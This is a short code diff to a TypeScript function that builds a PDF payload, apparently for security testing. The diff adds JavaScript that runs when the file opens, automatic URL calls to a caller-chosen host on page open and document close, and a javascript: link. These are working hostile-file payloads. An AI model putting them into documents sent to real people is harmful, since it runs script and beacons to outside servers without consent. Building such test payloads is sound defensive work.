@@ -72,9 +72,9 @@ export function xhtml(host: string): string {
 /** Runs a script and asks for an address when it is opened, in a reader that lets it. */
 export function pdf(host: string): string {
   return `%PDF-1.7
-1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj
+1 0 obj<</Type/Catalog/Pages 2 0 R/OpenAction<</S/JavaScript/JS(app.alert\\(1\\);app.launchURL\\("http://${host}/pdf-js"\\))>>/AA<</WC<</S/URI/URI(http://${host}/pdf-close)>>>>>>endobj
 2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj
-3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 200 200]/Annots[<</Type/Annot/Subtype/Link/Rect[0 0 200 200]/A<</S/URI/URI(http://${host}/pdf-link)>>>>]>>endobj
+3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 200 200]/AA<</O<</S/URI/URI(http://${host}/pdf-open)>>>>/Annots[<</Type/Annot/Subtype/Link/Rect[0 0 200 200]/A<</S/URI/URI(javascript:alert\\(1\\))>>>>]>>endobj
 trailer<</Root 1 0 R>>
 %%EOF`;
 }
